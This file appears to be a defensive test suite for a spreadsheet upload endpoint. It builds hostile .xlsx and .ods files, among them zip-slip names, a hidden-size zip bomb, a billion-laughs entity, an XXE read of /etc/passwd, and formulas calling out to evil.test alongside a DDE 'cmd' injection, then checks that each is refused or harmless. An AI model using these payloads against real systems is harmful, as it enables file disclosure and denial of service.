@@ -1,0 +1,254 @@
+import { deflateRawSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { EMPLOYER_PERMISSIONS } from '#contract/permissions.ts';
+import { sql } from '#server/db/db.ts';
+import { givenEmployer } from '../support/factories.ts';
+import { inlineRow, ODS_TYPE, odsOf, odsRow, xlsxOf } from '../support/sheets.ts';
+import { useTestApp } from '../support/testApp.ts';
+import { multipart, unzip, zip } from '../support/zip.ts';
+
+/** Files that are meant to harm, or that harm by size (spec/setup.md, Security and limits): each is answered in plain words. */
+const t = useTestApp();
+const HEAD = inlineRow('Employee Number', 'First Name', 'Last Name');
+const good = () => xlsxOf({ rows: HEAD + inlineRow('1', 'Ann', 'Adams') });
+
+async function dropping(file: Buffer, name = 'farm.xlsx') {
+  const { token } = await givenEmployer(t.db, { permissions: [...EMPLOYER_PERMISSIONS, 'Setup.MANAGE'] });
+  const { payload, headers } = multipart(file, { name, type: 'application/octet-stream' });
+  const url = '/v2/setup/workbook';
+  return t.app.inject({ method: 'POST', url, payload, headers: { ...headers, authorization: token } });
+}
+const DAMAGED = 'The file is damaged or cannot be read. Save it again as .xlsx or .ods.';
+const UNSUPPORTED = 'File type not supported. Only .xlsx and .ods files are supported.';
+const COSTLY = /^The file (would unpack to more than a workbook may hold|is too large to be read)/;
+const renamed = (file: Buffer, from: string, to: string) =>
+  Buffer.from(file.toString('latin1').replaceAll(from, to), 'latin1');
+
+/** Says in the directory that an entry is empty, and the truth only beside its data. */
+async function hiddenSizes() {
+  const bomb = deflateRawSync(Buffer.alloc(400_000_000, ' '));
+  const name = 'xl/sharedStrings.xml';
+  const file = await xlsxOf({ more: { [name]: Buffer.alloc(200_000, 'ab') } });
+  const at = file.indexOf(name) - 30;
+  const local = Buffer.from(file.subarray(at, at + 30 + name.length));
+  local.writeUInt32LE(bomb.length, 18);
+  local.writeUInt32LE(400_000_000, 22);
+  const moved = Buffer.concat([local, bomb]);
+  const directory = file.readUInt32LE(file.length - 6);
+  const entries = Buffer.from(file.subarray(directory, file.length - 22));
+  const entry = entries.indexOf(name) - 46;
+  entries.writeUInt16LE(entries.readUInt16LE(entry + 8) | 8, entry + 8);
+  for (const field of [16, 20, 24]) entries.writeUInt32LE(0, entry + field);
+  entries.writeUInt32LE(directory, entry + 42);
+  const end = Buffer.from(file.subarray(file.length - 22));
+  end.writeUInt32LE(directory + moved.length, 16);
+  return Buffer.concat([file.subarray(0, directory), moved, entries, end]);
+}
+
+describe('a hostile file', () => {
+  it.each<[what: string, make: () => Promise<Buffer> | Buffer, status: number, says: string | RegExp, name?: string]>([
+    [
+      'a name that climbs',
+      async () => renamed(await xlsxOf({ more: { 'aa/aa/passwd': 'x' } }), 'aa/aa/passwd', '../../passwd'),
+      400,
+      DAMAGED,
+    ],
+    [
+      'an absolute name',
+      async () => renamed(await xlsxOf({ more: { 'aetc/passwd': 'x' } }), 'aetc/passwd', '/etc/passwd'),
+      400,
+      DAMAGED,
+    ],
+    [
+      'the same entry twice',
+      async () =>
+        renamed(await xlsxOf({ more: { 'xl/workbooK.xml': '<workbook/>' } }), 'xl/workbooK.xml', 'xl/workbook.xml'),
+      400,
+      DAMAGED,
+    ],
+    ['its end cut off', async () => (await good()).subarray(0, -10), 400, DAMAGED],
+    ['something behind its end', async () => Buffer.concat([await good(), Buffer.from('more')]), 400, DAMAGED],
+    [
+      'flipped bytes',
+      async () => Buffer.from((await good()).map((byte, at) => (at > 100 && at < 160 ? byte ^ 0x55 : byte))),
+      400,
+      DAMAGED,
+    ],
+    ['a workbook within an archive', async () => zip([['farm.xlsx', await good()]]), 415, UNSUPPORTED],
+    ['a CSV with another name', () => Buffer.from('Employee Number,First Name\n1,Ann\n'), 415, UNSUPPORTED],
+    [
+      'a page with another name',
+      () => Buffer.from('<html><table><tr><td>1</td></tr></table></html>'),
+      415,
+      UNSUPPORTED,
+      'farm.xls',
+    ],
+    [
+      'a text document',
+      () => zip(Object.entries({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<a/>' })),
+      415,
+      UNSUPPORTED,
+      'farm.ods',
+    ],
+    ['sizes that its directory hides', hiddenSizes, 400, DAMAGED],
+    [
+      'a bomb of many parts',
+      () =>
+        xlsxOf({
+          more: Object.fromEntries(Array.from({ length: 150 }, (_, i) => [`xl/media/${i}.png`, Buffer.alloc(400_000)])),
+        }),
+      413,
+      COSTLY,
+    ],
+    [
+      'a cell at the far end of a sheet',
+      () => xlsxOf({ rows: `${HEAD}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>` }),
+      400,
+      DAMAGED,
+    ],
+    [
+      'an address outside of every sheet',
+      () => xlsxOf({ rows: `${HEAD}<row><c r="ZZZZZZZ99999999999"><v>1</v></c></row>` }),
+      400,
+      DAMAGED,
+    ],
+    [
+      '20,010 lines and more',
+      () =>
+        xlsxOf({
+          rows:
+            HEAD +
+            Array.from({ length: 20_011 }, (_, i) =>
+              inlineRow(`${i}`, (i * 7_919).toString(36), (i * 104_729).toString(36)),
+            ).join(''),
+        }),
+      413,
+      /^The sheet Employees has more than 20000 lines/,
+    ],
+    [
+      '.ods: a line repeated a million times',
+      () =>
+        odsOf(
+          `<table:table table:name="Employees">${odsRow('Employee Number', 'First Name', 'Last Name')}${odsRow('1', 'A', 'B').replace('table-row>', 'table-row table:number-rows-repeated="1000000">')}</table:table>`,
+        ),
+      413,
+      /^The (sheet Employees has more than 20000 lines|file is too large)/,
+      'farm.ods',
+    ],
+    [
+      '.ods: a cell repeated a million times in a million lines',
+      () =>
+        odsOf(
+          `<table:table table:name="Employees"><table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000000" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`,
+        ),
+      400,
+      DAMAGED,
+      'farm.ods',
+    ],
+    [
+      'elements within elements, 200,000 deep',
+      () =>
+        xlsxOf({
+          strings: Array.from({ length: 200_000 }, (_, i) => `<a${(i * 7_919) % 99_991}>`).join(''),
+          rows: HEAD,
+        }),
+      400,
+      /./,
+    ],
+    [
+      '.ods: elements within elements, 200,000 deep',
+      () => odsOf(`${Array.from({ length: 200_000 }, (_, i) => `<a${i % 97}>`).join('')}`),
+      400,
+      /./,
+      'farm.ods',
+    ],
+    [
+      'billions of laughs',
+      () =>
+        xlsxOf({
+          sheet: `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(99)}">]><worksheet><sheetData>${inlineRow('&b;')}</sheetData></worksheet>`,
+        }),
+      400,
+      /headings/,
+    ],
+    [
+      'a file of the server as an entity',
+      () =>
+        xlsxOf({
+          sheet: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet><sheetData>${inlineRow('&a;')}</sheetData></worksheet>`,
+        }),
+      400,
+      /headings/,
+    ],
+    ['no sheets', () => xlsxOf({ workbook: '<workbook><sheets/></workbook>' }), 400, /no sheet named/],
+    [
+      'an .ods that is no XML',
+      () => zip(Object.entries({ mimetype: ODS_TYPE, 'content.xml': Buffer.alloc(5_000, 0xff) })),
+      400,
+      /./,
+      'farm.ods',
+    ],
+  ])('%s is refused in words', async (_, make, status, says, name) => {
+    const answer = await dropping(await make(), name);
+    expect([answer.statusCode, answer.json().message]).toEqual([status, expect.stringMatching(says)]);
+    const kept = await t.db.rows(
+      z.object({ id: z.string() }),
+      sql`select workbook_upload_id as id from workbook_upload`,
+    );
+    expect(kept).toEqual([]);
+  });
+
+  const formula = (text: string, value: string) => `<c t="str"><f>${text}</f><v>${value}</v></c>`;
+  it.each<[what: string, make: () => Promise<Buffer>, name?: string]>([
+    [
+      'macros and an external link',
+      () =>
+        xlsxOf({
+          rows: HEAD + inlineRow('1', 'Ann', 'Adams'),
+          more: { 'xl/vbaProject.bin': 'Shell "calc"', 'xl/externalLinks/externalLink1.xml': '<externalLink/>' },
+        }),
+      'farm.xlsm',
+    ],
+    [
+      'formulas that call out',
+      () =>
+        xlsxOf({
+          rows: `${HEAD}<row>${formula('WEBSERVICE(&quot;http://evil.test&quot;)', '1')}${formula('HYPERLINK(&quot;http://evil.test&quot;,&quot;x&quot;)', 'Ann')}${formula('cmd|&apos;/c calc&apos;!A0', 'Adams')}</row>`,
+        }),
+    ],
+    ['another extension', good, 'farm.pdf'],
+    [
+      'an .ods named .xlsx',
+      () =>
+        odsOf(
+          `<table:table table:name="Employees">${odsRow('Employee Number', 'First Name', 'Last Name')}${odsRow('1', 'Ann', 'Adams')}</table:table>`,
+        ),
+    ],
+    [
+      'a dimension of the whole sheet',
+      async () => {
+        const parts = await unzip(await good());
+        const sheet = String(parts.get('xl/worksheets/sheet1.xml')).replace(
+          '<sheetData>',
+          '<dimension ref="A1:XFD1048576"/><sheetData>',
+        );
+        return zip(parts.set('xl/worksheets/sheet1.xml', Buffer.from(sheet)));
+      },
+    ],
+    [
+      '.ods: a million empty lines at the end',
+      () =>
+        odsOf(
+          `<table:table table:name="Employees">${odsRow('Employee Number', 'First Name', 'Last Name')}${odsRow('1', 'Ann', 'Adams')}<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:style-name="a" table:number-columns-repeated="1024"/></table:table-row></table:table>`,
+        ),
+      'farm.ods',
+    ],
+  ])('%s does no harm: the values of its cells count', async (_, make, name) => {
+    const answer = await dropping(await make(), name);
+    expect([answer.statusCode, answer.json().sheets]).toEqual([
+      200,
+      [expect.objectContaining({ sheet: 'employees', new: 1, refused: 0 })],
+    ]);
+  });
+});
